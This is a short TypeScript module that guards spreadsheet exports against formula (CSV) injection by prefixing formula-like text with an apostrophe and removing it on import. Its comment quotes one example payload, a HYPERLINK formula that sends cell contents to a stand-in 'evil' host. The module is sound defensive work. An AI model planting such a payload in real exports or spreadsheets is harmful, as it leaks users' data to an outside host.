// Formula injection (CSV/Excel injection): an exported text starting with = + - @ tab or CR could be taken for
// a formula by a spreadsheet (on editing the cell, or once saved as CSV and opened again), e.g.
// =HYPERLINK("http://evil/?"&A2) typed as a household's name. Exports write such text with a leading ' — as
// text, never run — and imports drop that ' again, so an export edited and imported again is unchanged.

const TRIGGER = /^[=+\-@\t\r]/;
const NEUTRALISED = /^'[=+\-@\t\r]/;

/** Text as a spreadsheet cell may safely hold it (other values as they are). */
export function neutraliseFormula<T>(value: T): T | string {
  return typeof value === 'string' && TRIGGER.test(value) ? `'${value}` : value;
}

/** A cell read back: the ' an export put before a formula-like text removed. */
export function unneutraliseFormula<T>(value: T): T | string {
  return typeof value === 'string' && NEUTRALISED.test(value) ? value.slice(1) : value;
}
